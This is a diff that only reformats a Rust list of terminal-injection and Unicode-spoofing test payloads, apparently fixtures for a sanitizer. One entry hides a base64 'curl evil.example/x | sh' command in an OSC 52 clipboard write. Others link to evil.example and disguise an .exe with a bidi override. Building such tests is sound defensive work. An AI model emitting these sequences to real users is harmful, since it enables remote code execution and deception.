@@ -19,7 +19,10 @@ pub fn payloads() -> Vec<(&'static str, String)> {
         ("CSI clear screen, cursor home", "\x1b[2J\x1b[H".into()),
         ("CSI cursor up, erase line", "\x1b[1A\x1b[2K\x1b[99D".into()),
         ("SGR conceal", "\x1b[8mhidden\x1b[0m".into()),
-        ("OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07".into()),
+        (
+            "OSC 52 clipboard write",
+            "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07".into(),
+        ),
         (
             "OSC 8 hyperlink",
             "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\".into(),
@@ -32,8 +35,14 @@ pub fn payloads() -> Vec<(&'static str, String)> {
         ("carriage return overwrite", "evil\rgood".into()),
         ("NUL byte", "nul\0here".into()),
         ("bidi override U+202E", "invoice\u{202e}fdp.exe".into()),
-        ("bidi isolates", "\u{2067}admin\u{2069} \u{2066}x\u{2069}".into()),
-        ("zero-width characters", "ad\u{200b}mi\u{200d}n\u{feff}".into()),
+        (
+            "bidi isolates",
+            "\u{2067}admin\u{2069} \u{2066}x\u{2069}".into(),
+        ),
+        (
+            "zero-width characters",
+            "ad\u{200b}mi\u{200d}n\u{feff}".into(),
+        ),
         ("line separator U+2028", "one\u{2028}two\u{2029}".into()),
         (
             "invisible tag characters",
